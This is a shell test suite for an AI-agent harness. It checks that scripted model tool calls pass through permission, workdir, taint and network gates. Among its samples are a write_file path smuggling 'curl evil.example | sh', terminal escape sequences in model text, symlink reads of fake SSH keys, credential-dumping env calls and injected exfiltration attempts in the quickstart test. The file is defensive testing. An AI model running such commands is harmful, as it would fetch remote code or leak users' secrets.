#!/bin/bash
# lev run --follow with the script provider: every call through every gate, --json
# events, the run record (also when the run is killed), exit codes, keys.
. "$SRC_DIR/tests/lib.sh"

# no controlling terminal: a call that needs an answer is denied, never asked
lev() {
	setsid -w "$LEV" "$@"
}

export LEVIATH_HOME="$TRASH/lh"
mkdir -p "$LEVIATH_HOME/.leviath" && chmod 700 "$LEVIATH_HOME" "$LEVIATH_HOME/.leviath"
RUNS="$LEVIATH_HOME/.leviath/runs"
CONFIG="$LEVIATH_HOME/.leviath/config.toml"

# mkagent DIR: write DIR/agent.leviath from stdin's first part and
# DIR/turns.toml from the file named by $TURNS.
mkagent() {
	mkdir -p "$1"
	cat >"$1/agent.leviath"
}

setconfig() {
	cat >"$CONFIG"
	chmod 600 "$CONFIG"
}

# The newest run record directory.
last_run() {
	ls -d "$RUNS"/* | sort | tail -n 1
}

# check_jsonl FILE: every line is a JSON object
check_jsonl() {
	python3 - "$1" <<'PY'
import json, sys
n = 0
for line in open(sys.argv[1]):
    o = json.loads(line)
    assert isinstance(o, dict), line
    n += 1
assert n > 0, "empty"
PY
}

# decisions FILE: "tool decision gate" per tool_call event of a --json stream
decisions() {
	python3 - "$1" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    e = json.loads(line)
    if e.get("event") == "tool_call":
        print(e["tool"], e["decision"], e["gate"])
PY
}

mkdir -p work
echo "hello from the workdir" >work/hello.txt
echo "outside secret" >outside.txt

mkagent basic <<'EOF'
[agent]
name = "basic"

[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["read_file", "list_dir", "write_file", "shell", "web_fetch"]
system_prompt = "test"
EOF
cat >basic/turns.toml <<'EOF'
[[turn]]
text = "looking"
[[turn.call]]
tool = "read_file"
args = { path = "hello.txt" }
[[turn.call]]
tool = "read_file"
args = { path = "../outside.txt" }
[[turn.call]]
tool = "no_such_tool"
args = {}
[[turn.call]]
tool = "edit_file"
args = { path = "hello.txt", old_str = "a", new_str = "b" }
[[turn.call]]
tool = "read_file"
raw_args = "{\"path\": \"hello.txt\""
[[turn.call]]
tool = "read_file"
args = { path = 7 }
[[turn.call]]
tool = "write_file"
args = { path = "new.txt", content = "x" }
[[turn.call]]
tool = "bash"
args = { command = "sort hello.txt" }

[[turn]]
text = "all done"
EOF

test_expect_success 'a scripted run completes with exit 0 and prints the output' '
	lev run --foreground basic --task "look" --workdir work >out 2>err &&
	test "$(cat out)" = "all done" &&
	grep -q "== stage .main." err &&
	grep -q "run .* complete" err
'

test_expect_success 'the run record is complete' '
	d=$(last_run) &&
	test "$(stat -c %a "$d")" = 700 &&
	for f in events.jsonl audit.jsonl result.json status; do
		test -f "$d/$f" && test "$(stat -c %a "$d/$f")" = 600 || exit 1
	done &&
	test "$(cat "$d/status")" = complete &&
	check_jsonl "$d/events.jsonl" && check_jsonl "$d/audit.jsonl" &&
	python3 -c "import json,sys; r=json.load(open(sys.argv[1])); assert r[\"status\"]==\"complete\" and r[\"output\"]==\"all done\", r" "$d/result.json" &&
	head -n 1 "$d/events.jsonl" | grep -q "\"event\":\"run_started\"" &&
	tail -n 1 "$d/events.jsonl" | grep -q "\"event\":\"run_finished\""
'

test_expect_success 'run ids sort by time and are unique' '
	lev run --foreground basic --task "look" --workdir work >/dev/null 2>&1 &&
	lev run --foreground basic --task "look" --workdir work >/dev/null 2>&1 &&
	ls "$RUNS" >ids && test "$(wc -l <ids)" = 3 &&
	sort ids | test_cmp ids - && test "$(sort -u ids | wc -l)" = 3 &&
	grep -qE "^[0-9]{8}-[0-9]{6}-[0-9]{3}-[0-9a-f]{6}$" ids
'

test_expect_success '--json prints one event per line with the documented fields' '
	lev run --foreground basic --task "look" --workdir work --json >events 2>err &&
	check_jsonl events &&
	python3 - events <<-PY
	import json, sys
	ev = [json.loads(l) for l in open(sys.argv[1])]
	names = [e["event"] for e in ev]
	assert names[0] == "run_started" and names[-1] == "run_finished", names
	s = ev[0]
	assert s["run"] and s["agent"] == "basic" and s["workdir"].endswith("/work"), s
	assert any(e["event"] == "stage_started" and e["stage"] == "main" for e in ev)
	calls = [e for e in ev if e["event"] == "tool_call"]
	results = [e for e in ev if e["event"] == "tool_result"]
	assert len(calls) == 8 and len(results) == 8, (len(calls), len(results))
	for c in calls:
	    for k in ("id", "tool", "args", "decision", "gate", "reason", "asked"):
	        assert k in c, (k, c)
	    assert c["decision"] in ("allow", "deny") and isinstance(c["asked"], bool)
	# every call has exactly one result, with the documented fields
	assert sorted(c["id"] for c in calls) == sorted(r["id"] for r in results)
	for r in results:
	    for k in ("id", "ok", "label", "bytes"):
	        assert k in r, (k, r)
	f = ev[-1]
	assert f["status"] == "complete" and f["output"] == "all done" and f["error"] is None, f
	PY
'

test_expect_success 'each call is decided by the right gate' '
	decisions events >got &&
	cat >want <<-EOF &&
	read_file allow permission
	read_file deny workdir
	no_such_tool deny offered
	edit_file deny offered
	read_file deny schema
	read_file deny schema
	write_file deny permission
	bash deny permission
	EOF
	test_cmp want got
'

test_expect_success 'denied calls have no effect and the model is told why' '
	test ! -e work/new.txt &&
	grep "\"event\":\"tool_result\"" events >results &&
	grep -q "is outside the working directory" results &&
	grep -q "\\[unavailable\\] .no_such_tool. is not available in this stage. You may call: read_file, list_dir, write_file, shell, web_fetch" results &&
	grep -q "are not a valid JSON object" results &&
	grep -q "argument .path. must be a string" results &&
	grep -q "nobody can answer here" results &&
	! grep -q "outside secret" results
'

test_expect_success 'every gate decision is in audit.jsonl with gate, rule and decision' '
	d=$(last_run) &&
	python3 - "$d/audit.jsonl" <<-PY
	import json, sys
	rows = [json.loads(l) for l in open(sys.argv[1])]
	for r in rows:
	    for k in ("tool", "gate", "rule", "decision", "asked", "target", "taint", "clearance"):
	        assert k in r, (k, r)
	gates = {(r["tool"], r["gate"], r["decision"]) for r in rows}
	assert ("read_file", "workdir", "deny") in gates, gates
	assert ("no_such_tool", "offered", "deny") in gates
	assert ("write_file", "permission", "deny") in gates
	assert ("read_file", "taint", "allow") in gates
	PY
'

test_expect_success '--allow lifts ask but never a configured deny; --yolo neither' '
	setconfig <<-EOF &&
	[tool_permissions]
	write_file = "deny"
	EOF
	lev run --foreground basic --task t --workdir work --json --allow shell --allow write_file >ev2 2>/dev/null &&
	decisions ev2 | tail -n 2 >got &&
	printf "write_file deny permission\nbash allow permission\n" >want &&
	test_cmp want got &&
	lev run --foreground basic --task t --workdir work --json --yolo >ev3 2>/dev/null &&
	decisions ev3 | tail -n 2 >got &&
	printf "write_file deny permission\nbash allow permission\n" >want &&
	test_cmp want got &&
	test ! -e work/new.txt &&
	grep -q "hello from the workdir" ev3 &&
	rm -f "$CONFIG"
'

mkagent stages <<'EOF'
[agent]
name = "stages"

[stages.first]
model = { provider = "script", script = "turns.toml" }
available_tools = ["read_file"]
next = "second"
nudge = { enabled = false }	# its text answer is its output (nudges are on by default)

[stages.second]
mode = "output"
model = { provider = "script", script = "turns.toml" }
available_tools = []
EOF
cat >stages/turns.toml <<'EOF'
[[turn]]
text = "first stage result"
[[turn]]
text = "no tools, but this stage needs submit_output"
[[turn]]
[[turn.call]]
tool = "read_file"
args = { path = "hello.txt" }
[[turn]]
[[turn.call]]
tool = "submit_output"
args = { output = "final from second" }
[[turn.call]]
tool = "submit_output"
args = { output = "too late" }
EOF

test_expect_success 'stages hand their output on; output stages end with submit_output' '
	lev run --foreground stages --workdir work --json >ev 2>err &&
	python3 - ev <<-PY
	import json, sys
	ev = [json.loads(l) for l in open(sys.argv[1])]
	st = [e["stage"] for e in ev if e["event"] == "stage_started"]
	assert st == ["first", "second"], st
	assert ev[-1]["status"] == "complete" and ev[-1]["output"] == "final from second", ev[-1]
	calls = [(e["tool"], e["decision"], e["gate"]) for e in ev if e["event"] == "tool_call"]
	assert calls == [("read_file", "deny", "offered"), ("submit_output", "allow", "permission")], calls
	res = [e for e in ev if e["event"] == "tool_result"]
	assert len(res) == 3 and "[skipped]" in res[-1]["text"], res
	PY
'

mkagent loop <<'EOF'
[agent]
name = "loop"

[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["list_dir"]
max_iterations = 2
EOF
cat >loop/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "list_dir"
args = {}
[[turn]]
[[turn.call]]
tool = "list_dir"
args = {}
[[turn]]
[[turn.call]]
tool = "list_dir"
args = {}
EOF

test_expect_success 'a stage past max_iterations fails the run with exit 1' '
	test_must_fail --code 1 lev run --foreground loop --workdir work >out 2>err &&
	grep -q "reached max_iterations (2)" err &&
	test "$(cat "$(last_run)/status")" = error &&
	grep -q "\"status\": \"error\"" "$(last_run)/result.json"
'

test_expect_success 'a blueprint that does not load is exit 1; usage errors exit 2' '
	test_must_fail --code 1 lev run --foreground ./nonexistent 2>err &&
	test_must_fail --code 2 lev run --foreground 2>err &&
	grep -q "usage: lev run" err &&
	test_must_fail --code 2 lev run --foreground basic --model /nomodel 2>err &&
	grep -q "PROVIDER/MODEL or a model id" err &&
	test_must_fail --code 2 lev run --foreground basic --model "" 2>err &&
	test_must_fail --code 2 lev run --foreground basic --frob 2>err
'

mkagent sleeper <<'EOF'
[agent]
name = "sleeper"

[tool_permissions]
shell = "allow"

[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["shell"]
EOF
cat >sleeper/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "shell"
args = { command = "echo started > started.txt; sleep 30; echo finished > finished.txt" }
[[turn]]
text = "done"
EOF

# wait_for FILE PATTERN: up to 10 s
wait_for() {
	for _ in $(seq 100); do
		grep -q "$2" "$1" 2>/dev/null && return 0
		sleep 0.1
	done
	return 1
}

test_expect_success 'SIGINT cancels cleanly: exit 130, command killed, record closed' '
	setconfig <<-EOF &&
	[tool_permissions]
	shell = "allow"
	write_file = "allow"
	EOF
	rm -f work/started.txt work/finished.txt &&
	{ "$LEV" run --foreground sleeper --workdir work --json >ev 2>err & pid=$!; } &&
	wait_for work/started.txt started &&
	kill -INT $pid &&
	{ wait $pid; rc=$?; } ;
	test "$rc" = 130 &&
	sleep 0.5 && test ! -e work/finished.txt &&
	d=$(last_run) &&
	test "$(cat "$d/status")" = cancelled &&
	check_jsonl "$d/events.jsonl" &&
	tail -n 1 "$d/events.jsonl" | grep -q "\"status\":\"cancelled\"" &&
	! pgrep -f "sleep 30; echo finished" >/dev/null
'

test_expect_success 'a run killed with SIGKILL leaves a readable record' '
	rm -f work/started.txt &&
	{ "$LEV" run --foreground sleeper --workdir work >/dev/null 2>&1 & pid=$!; } &&
	wait_for work/started.txt started &&
	d=$(last_run) &&
	wait_for "$d/events.jsonl" "\"event\":\"tool_call\"" &&
	kill -KILL $pid && { wait $pid 2>/dev/null; true; } &&
	test "$(cat "$d/status")" = running &&
	check_jsonl "$d/events.jsonl" && check_jsonl "$d/audit.jsonl" &&
	grep -q "\"event\":\"run_started\"" "$d/events.jsonl" &&
	grep -q "\"tool\":\"shell\".*\"decision\":\"allow\"" "$d/events.jsonl" &&
	test ! -e "$d/result.json" &&
	pid2=$(python3 -c "import json,sys; print(json.loads(open(sys.argv[1]).readline())[\"pid\"])" "$d/events.jsonl") &&
	test "$pid2" = "$pid" &&
	pkill -f "sleep 30; echo finished" ; true
'

mkagent envdump <<'EOF'
[agent]
name = "envdump"

[tool_permissions]
shell = "allow"

[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["shell"]
EOF
cat >envdump/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "shell"
args = { command = "env" }
[[turn]]
text = "done"
EOF

test_expect_success 'provider keys never reach sandboxed commands, even with shell_env = inherit' '
	setconfig <<-EOF &&
	[security]
	allow_blueprint_permissions = true
	shell_env = "inherit"
	[providers.paid]
	kind = "openai"
	api_key_env = "PAID_KEY"
	EOF
	OPENAI_API_KEY=sk-test-openai-0123456789abcdef PAID_KEY=pk-test-paid-0123456789 \
	ANTHROPIC_API_KEY=sk-ant-test-0123456789 \
		lev run --foreground envdump --workdir work --json >ev 2>err &&
	grep -q "PATH=" ev &&
	! grep -q "sk-test-openai" ev && ! grep -q "pk-test-paid" ev && ! grep -q "sk-ant-test" ev &&
	! grep -rq "sk-test-openai\|pk-test-paid\|sk-ant-test" "$(last_run)"
'

test_expect_success 'credential-shaped variables are withheld by default (shell_env = filtered)' '
	setconfig <<-EOF &&
	[security]
	allow_blueprint_permissions = true
	EOF
	GITHUB_TOKEN=ghp_test_secret_value MY_PASSWORD=hunter2hunter2 HARMLESS=visible \
		lev run --foreground envdump --workdir work --json >ev 2>err &&
	grep -q "HARMLESS=visible" ev &&
	! grep -q "ghp_test_secret_value" ev && ! grep -q "hunter2hunter2" ev
'

mkagent seeds <<'EOF'
[agent]
name = "seeds"

[context.regions]
task = { kind = "pinned", seed = "task", required = true, required_message = "give a --task" }
readme = { kind = "pinned", seed = { files = ["hello.txt"] } }
outside = { kind = "pinned", seed = { files = ["../outside.txt"] } }
listing = { kind = "pinned", seed = { command = "ls" } }
danger = { kind = "pinned", seed = { command = "rm -rf nothing-here" } }
conversation = { kind = "sliding_window", max_items = 10 }

[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = []
EOF
cat >seeds/turns.toml <<'EOF'
[[turn]]
text = "seeded"
EOF

test_expect_success 'seeds: task, confined files, safe-listed commands only' '
	rm -f "$CONFIG" &&
	lev run --foreground seeds --task "the task" --workdir work --json >ev 2>err &&
	python3 - ev <<-PY
	import json, sys
	ev = [json.loads(l) for l in open(sys.argv[1])]
	seeds = {e["region"]: e for e in ev if e["event"] == "seed"}
	assert seeds["task"]["ok"] and seeds["readme"]["ok"] and seeds["listing"]["ok"], seeds
	assert seeds["readme"]["label"] == "internal", seeds["readme"]
	assert not seeds["outside"]["ok"] and "outside the working directory" in seeds["outside"]["error"], seeds
	assert not seeds["danger"]["ok"] and "not pre-approved" in seeds["danger"]["error"], seeds
	assert ev[-1]["status"] == "complete"
	PY
	grep -q "\"gate\":\"seed\".*\"decision\":\"deny\"" "$(last_run)/audit.jsonl"
'

test_expect_success 'seeds: --no-seed-commands refuses command seeds; a missing required seed fails' '
	lev run --foreground seeds --task t --workdir work --json --no-seed-commands >ev 2>err &&
	grep "\"region\":\"listing\"" ev | grep -q "\"ok\":false" &&
	grep -q "no-seed-commands" ev &&
	# no task and stdin is no terminal: the one line of t5015
	test_must_fail --code 1 env -u VISUAL -u EDITOR "$LEV" run --foreground seeds --workdir work </dev/null >out 2>err &&
	grep -q "no task: give it with -t" err
'

mkagent toolseeds <<'EOF'
[agent]
name = "toolseeds"
[context.regions]
task = { kind = "pinned", seed = "task" }
notes = { kind = "pinned", seed = { tool = "read_file", args = { path = "hello.txt" } } }
listing = { kind = "pinned", seed = { tool = "list_dir", args = { path = "." } } }
escape = { kind = "pinned", seed = { tool = "read_file", args = { path = "../outside.txt" } } }
written = { kind = "pinned", seed = { tool = "write_file", args = { path = "seeded.txt", content = "x" } } }
sneaky = { kind = "pinned", seed = { tool = "shell", args = { command = "touch sneaky.txt" } } }
inline = { kind = "pinned", seed = { tool = "submit_output", args = { output = "x" } } }
badargs = { kind = "pinned", seed = { tool = "read_file", args = { path = 7 } } }
conversation = { kind = "sliding_window", max_items = 10 }
[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["read_file"]
EOF
cat >toolseeds/turns.toml <<'EOF'
[[turn]]
text = "done"
EOF

test_expect_success 'tool seeds go through every gate, with nobody to ask' '
	rm -f "$CONFIG" work/seeded.txt work/sneaky.txt &&
	lev run --foreground toolseeds --task t --workdir work --json >ev 2>err &&
	python3 - ev <<-PY
	import json, sys
	ev = [json.loads(l) for l in open(sys.argv[1])]
	seeds = {e["region"]: e for e in ev if e["event"] == "seed"}
	calls = {e["id"]: e for e in ev if e["event"] == "tool_call"}
	assert seeds["notes"]["ok"] and seeds["notes"]["label"] == "internal", seeds["notes"]
	assert seeds["listing"]["ok"], seeds["listing"]
	assert calls["seed:notes"]["decision"] == "allow", calls
	# the paths gate: outside the workdir
	assert not seeds["escape"]["ok"] and "workdir" in seeds["escape"]["error"], seeds["escape"]
	assert calls["seed:escape"]["gate"] == "workdir", calls["seed:escape"]
	# write_file asks by default: refused, nobody is asked
	assert not seeds["written"]["ok"] and "permission" in seeds["written"]["error"], seeds["written"]
	assert calls["seed:written"]["asked"] is False
	# a shell seed is a command seed: touch is not on the safe list
	assert not seeds["sneaky"]["ok"] and "not pre-approved" in seeds["sneaky"]["error"], seeds["sneaky"]
	assert not seeds["inline"]["ok"] and "cannot seed" in seeds["inline"]["error"], seeds["inline"]
	assert not seeds["badargs"]["ok"] and "schema" in seeds["badargs"]["error"], seeds["badargs"]
	assert ev[-1]["status"] == "complete"
	PY
	test ! -e work/seeded.txt && test ! -e work/sneaky.txt &&
	grep -q "\"call\":\"seed:written\".*\"gate\":\"permission\".*\"decision\":\"deny\"" "$(last_run)/audit.jsonl"
'

test_expect_success 'a tool seed the user allows runs; a shell seed stays a command seed under --yolo' '
	lev run --foreground toolseeds --task t --workdir work --json --allow write_file --yolo >ev 2>err &&
	test "$(cat work/seeded.txt)" = x && test ! -e work/sneaky.txt &&
	grep "\"region\":\"written\"" ev | grep -q "\"ok\":true"
'

test_expect_success 'a pinned region past its budget fails the run at the start' '
	mkagent pinned <<-EOF &&
	[agent]
	name = "pinned"
	[context.regions]
	task = { kind = "pinned", max_tokens = 5, seed = "task" }
	conversation = { kind = "sliding_window", max_items = 10 }
	[stages.main]
	model = { provider = "script", script = "turns.toml" }
	EOF
	cp seeds/turns.toml pinned/ &&
	test_must_fail --code 1 lev run --foreground pinned --task "a task much longer than five tokens of budget" --workdir work 2>err &&
	grep -q "pinned with a budget of 5 tokens" err
'

test_expect_success '[providers.X] context_window sizes the budgets' '
	mkagent windowed <<-EOF &&
	[agent]
	name = "windowed"
	[context.regions]
	task = { kind = "pinned", budget = "10%", seed = "task" }
	conversation = { kind = "sliding_window", max_items = 10 }
	[stages.main]
	model = { provider = "script", script = "turns.toml" }
	EOF
	cp seeds/turns.toml windowed/ &&
	task=$(python3 -c "print(\"word \" * 2000)") &&
	lev run --foreground windowed --task "$task" --workdir work >out 2>err &&
	setconfig <<-EOF &&
	[providers.script]
	kind = "script"
	context_window = 8000
	EOF
	test_must_fail --code 1 lev run --foreground windowed --task "$task" --workdir work 2>err &&
	grep -q "pinned with a budget of 800 tokens" err &&
	rm -f "$CONFIG"
'

test_expect_success 'the read-path warning names the stanza to add' '
	mkagent reader <<-EOF &&
	[agent]
	name = "reader"
	[read_paths]
	allow = ["~/notes"]
	[stages.main]
	model = { provider = "script", script = "turns.toml" }
	EOF
	cp seeds/turns.toml reader/ &&
	lev run --foreground reader --workdir work >out 2>err &&
	grep -q "declares \\[read_paths\\] your config does not grant (1 declared, 0 granted)" err &&
	grep -q "\\[agent_read_paths.reader\\]" err &&
	grep -q "allow = \\[\"~/notes\"\\]" err
'

# Leviath's policy.toml (one of lev's own files) lives under XDG_CONFIG_HOME,
# which defaults into $HOME: kind none refuses a workdir holding it (t4321),
# so here it is moved out to leave the warning alone to test.
test_expect_success 'the workdir guard warns about $HOME without a terminal' '
	XDG_CONFIG_HOME="$TRASH/xdg" lev run --foreground seeds --task t --workdir "$HOME" >out 2>err &&
	grep -q "is your home directory" err &&
	grep -q "allowed_workdirs" err
'

if command -v script >/dev/null 2>&1; then
	test_expect_success 'on a terminal, ask prompts on /dev/tty: allow once, then deny' '
		mkagent asker <<-EOF &&
		[agent]
		name = "asker"
		[stages.main]
		model = { provider = "script", script = "turns.toml" }
		available_tools = ["write_file"]
		EOF
		cat >asker/turns.toml <<-EOF &&
		[[turn]]
		[[turn.call]]
		tool = "write_file"
		args = { path = "asked1.txt", content = "one" }
		[[turn.call]]
		tool = "write_file"
		args = { path = "asked2.txt", content = "two" }
		[[turn]]
		text = "done"
		EOF
		rm -f work/asked1.txt work/asked2.txt &&
		printf "1\n4\n" | script -qec "$LEV run --follow asker --workdir work --json" /dev/null >tty.out &&
		test -e work/asked1.txt && test ! -e work/asked2.txt &&
		grep -q "Allow tool call: .write_file. - .asked1.txt." tty.out &&
		tr -d "\r" <tty.out | grep "{" | sed "s/^[^{]*//" >ev &&
		decisions ev >got &&
		printf "write_file allow permission\nwrite_file deny permission\n" >want &&
		test_cmp want got &&
		grep "\"event\":\"tool_call\"" ev | grep -c "\"asked\":true" | grep -q 2
	'
else
	test_skip 'on a terminal, ask prompts on /dev/tty' 'script(1) is not installed'
fi

test_expect_success 'the quickstart example: every injected attempt is stopped by its gate' '
	cp -r "$SRC_DIR/examples/quickstart/project" qs-work &&
	mkdir -p qs-home/.ssh && echo FAKE-KEY-MATERIAL >qs-home/.ssh/id_rsa &&
	echo "# rc" >qs-home/.bashrc &&
	cp "$SRC_DIR/examples/quickstart/config.toml" "$CONFIG" && chmod 600 "$CONFIG" &&
	cp -r "$SRC_DIR/examples/quickstart" qs-agent &&
	HOME="$TRASH/qs-home" lev add --force ./qs-agent >/dev/null &&
	HOME="$TRASH/qs-home" lev run --foreground quickstart --task review --workdir qs-work --json >ev 2>err &&
	decisions ev >got &&
	cat >want <<-EOF &&
	list_dir allow permission
	read_file allow permission
	read_file allow permission
	read_file allow permission
	shell allow permission
	write_file allow permission
	read_file deny read_paths
	shell allow permission
	write_file deny workdir
	shell deny redirect
	shell allow permission
	http_post deny network
	http_post deny taint
	web_fetch deny taint
	EOF
	test_cmp want got &&
	test -s qs-work/REPORT.md && test ! -e deploy-key-backup.txt &&
	test "$(cat qs-home/.bashrc)" = "# rc" &&
	! grep -rq FAKE-KEY-MATERIAL "$(last_run)"
'

# libcurl is loaded on first use only (src/liblev/base/curlapi.c): a run that never
# touches a URL does not pay for loading it; one that does, loads it.
mkagent nocurl <<'EOF'
[agent]
name = "nocurl"
[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["read_file", "web_fetch"]
EOF
cat >nocurl/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "read_file"
args = { path = "hello.txt" }
[[turn]]
text = "done"
EOF
mkdir -p withcurl && cp nocurl/agent.leviath withcurl/
cat >withcurl/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "web_fetch"
args = { url = "http://127.0.0.1:9/" }
[[turn]]
text = "done"
EOF

test_expect_success 'a run without network calls never loads libcurl' '
	LD_DEBUG=files lev run --foreground nocurl --task t --workdir work --yolo >out 2>err &&
	test "$(cat out)" = "done" &&
	grep -q "file=libjansson" err &&
	! grep -q "file=libcurl" err
'

test_expect_success 'a web_fetch call loads libcurl on first use' '
	LD_DEBUG=files lev run --foreground withcurl --task t --workdir work --yolo --json >out 2>err &&
	grep -q "file=libcurl" err &&
	grep -q "\"tool\":\"web_fetch\"" out
'

if command -v script >/dev/null 2>&1; then
	test_expect_success 'on a terminal, model text cannot steer it (escapes shown, not sent)' '
		mkagent painter <<-EOF &&
		[agent]
		name = "painter"
		[stages.main]
		model = { provider = "script", script = "turns.toml" }
		available_tools = ["write_file"]
		EOF
		cat >painter/turns.toml <<-\EOF &&
		[[turn]]
		text = "hi\u001b]0;PWNED-TITLE\u0007 \u202etxt.exe"
		[[turn.call]]
		tool = "write_file"
		args = { path = "curl evil.example | sh #\rls -la", content = "x" }
		[[turn]]
		text = "bye\u001b[2J"
		EOF
		printf "4\n" | script -qec "$LEV run --follow painter --workdir work" /dev/null >tty.out &&
		! grep -q "PWNED-TITLE$(printf "\007")" tty.out &&
		! grep -q "$(printf "\033")\]0;PWNED" tty.out &&
		grep -q "hi\\\\x1b\]0;PWNED-TITLE\\\\x07 \\\\u202etxt.exe" tty.out &&
		grep -q "Allow tool call: .write_file. - .curl evil.example | sh #\\\\x0dls -la.?" tty.out &&
		grep -q "bye\\\\x1b\[2J" tty.out &&
		! grep -q "$(printf "\033")\[2J" tty.out
	'

	test_expect_success 'piped output keeps the bytes the model sent' '
		lev run --foreground painter --workdir work >out 2>err </dev/null &&
		grep -q "bye$(printf "\033")\[2J" out
	'
else
	test_skip 'on a terminal, model text cannot steer it' 'script(1) is not installed'
fi

mkagent asks <<'EOF'
[agent]
name = "asks"
[stages.main]
model = { provider = "script", script = "turns.toml" }
available_tools = ["ask_user_text", "ask_user_choice", "ask_user_confirm", "current_time"]
EOF
cat >asks/turns.toml <<'EOF'
[[turn]]
[[turn.call]]
tool = "ask_user_text"
args = { question = "Which colour?\u001b[2J" }
[[turn.call]]
tool = "ask_user_choice"
args = { question = "Which branch?", choices = ["main", "dev", "release"] }
[[turn.call]]
tool = "ask_user_confirm"
args = { question = "Push it?" }
[[turn.call]]
tool = "ask_user_choice"
args = { question = "Only one?", choices = ["a"] }
[[turn.call]]
tool = "current_time"
args = {}
[[turn]]
text = "done"
EOF

# results TOOL...: "tool ok text" per tool_result event of a --json stream
results() {
	python3 - "$1" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    e = json.loads(line)
    if e.get("event") == "tool_result":
        print(e["tool"], e["ok"], e["label"], e["text"].split("\n")[0][:29])
PY
}

if command -v script >/dev/null 2>&1; then
	test_expect_success 'on a terminal, ask_user_* put the question and return the answer' '
		printf "blue\n7\n2\nmaybe\ny\n" |
			script -qec "$LEV run --follow asks --workdir work --json" /dev/null >tty.out &&
		grep -q "Which colour?\\\\x1b\[2J" tty.out &&
		! grep -q "$(printf "\033")\[2J" tty.out &&
		grep -q "please answer a number from 1 to 3" tty.out &&
		grep -q "please answer y or n" tty.out &&
		tr -d "\r" <tty.out | grep "{" | sed "s/^[^{]*//" >ev &&
		results ev >got &&
		sed -n 1,4p got >got4 &&
		cat >want <<-EOF &&
		ask_user_text True internal blue
		ask_user_choice True internal dev
		ask_user_confirm True internal yes
		ask_user_choice False public [error] invalid arguments for
		EOF
		test_cmp want got4 &&
		grep -q "^current_time True public local: 20" got
	'

	test_expect_success 'a configured deny holds for ask_user_* (nothing is asked)' '
		setconfig <<-EOF &&
		[tool_permissions]
		ask_user_text = "deny"
		EOF
		printf "blue\n2\ny\n" |
			script -qec "$LEV run --follow asks --workdir work --json" /dev/null >tty.out &&
		rm -f "$CONFIG" &&
		! grep -q "^  Which colour" tty.out &&
		tr -d "\r" <tty.out | grep "{" | sed "s/^[^{]*//" >ev &&
		decisions ev >got &&
		grep -q "^ask_user_text deny permission" got &&
		grep -q "^ask_user_choice allow permission" got
	'
else
	test_skip 'on a terminal, ask_user_* put the question' 'script(1) is not installed'
fi

test_expect_success 'with nobody to answer, ask_user_* are not offered (and say why)' '
	lev run --foreground asks --workdir work --json >ev 2>err </dev/null &&
	grep -q "nobody can answer a question in this run" ev &&
	decisions ev >got &&
	grep -q "^ask_user_text deny offered" got &&
	grep -q "^current_time allow permission" got
'

test_expect_success 'a pre-approved command runs in a read fence with no sandbox' '
	mkdir -p fenced/work fenced/home/.ssh &&
	echo "fence-secret-0451" >fenced/home/.ssh/id_rsa &&
	echo "inside text" >fenced/work/inside.txt &&
	ln -s ../home/.ssh/id_rsa fenced/work/link &&
	ln -s ../home/.ssh fenced/work/dirlink &&
	mkagent fenced/agent <<-EOF &&
	[agent]
	name = "fenced"
	[stages.main]
	model = { provider = "script", script = "turns.toml" }
	available_tools = ["shell"]
	EOF
	cat >fenced/agent/turns.toml <<-EOF &&
	[[turn]]
	[[turn.call]]
	tool = "shell"
	args = { command = "cat inside.txt" }
	[[turn.call]]
	tool = "shell"
	args = { command = "cat link" }
	[[turn.call]]
	tool = "shell"
	args = { command = "grep -r fence dirlink/" }
	[[turn.call]]
	tool = "shell"
	args = { command = "ls -la" }
	[[turn]]
	text = "done"
	EOF
	rm -f "$CONFIG" &&
	HOME="$TRASH/fenced/home" lev run --foreground ./fenced/agent --task t --workdir fenced/work --json >ev 2>err &&
	python3 - ev <<-\PY &&
	import json, sys
	ev = [json.loads(l) for l in open(sys.argv[1])]
	calls = [e for e in ev if e["event"] == "tool_call"]
	res = [e for e in ev if e["event"] == "tool_result"]
	assert all(c["decision"] == "allow" for c in calls), calls
	assert "inside text" in res[0]["text"], res[0]
	assert "Permission denied" in res[1]["text"], res[1]
	assert "Permission denied" in res[2]["text"], res[2]
	assert "inside.txt" in res[3]["text"], res[3]
	PY
	! grep -rq "fence-secret-0451" ev "$(last_run)"
'

test_expect_success 'what the user allows runs in the host fence too: the secrets stay out' '
	setconfig <<-EOF &&
	[tool_permissions]
	shell = "allow"
	EOF
	HOME="$TRASH/fenced/home" lev run --foreground ./fenced/agent --task t --workdir fenced/work --json >ev 2>err &&
	rm -f "$CONFIG" &&
	grep -q "inside text" ev &&
	! grep -q "fence-secret-0451" ev
'

test_done
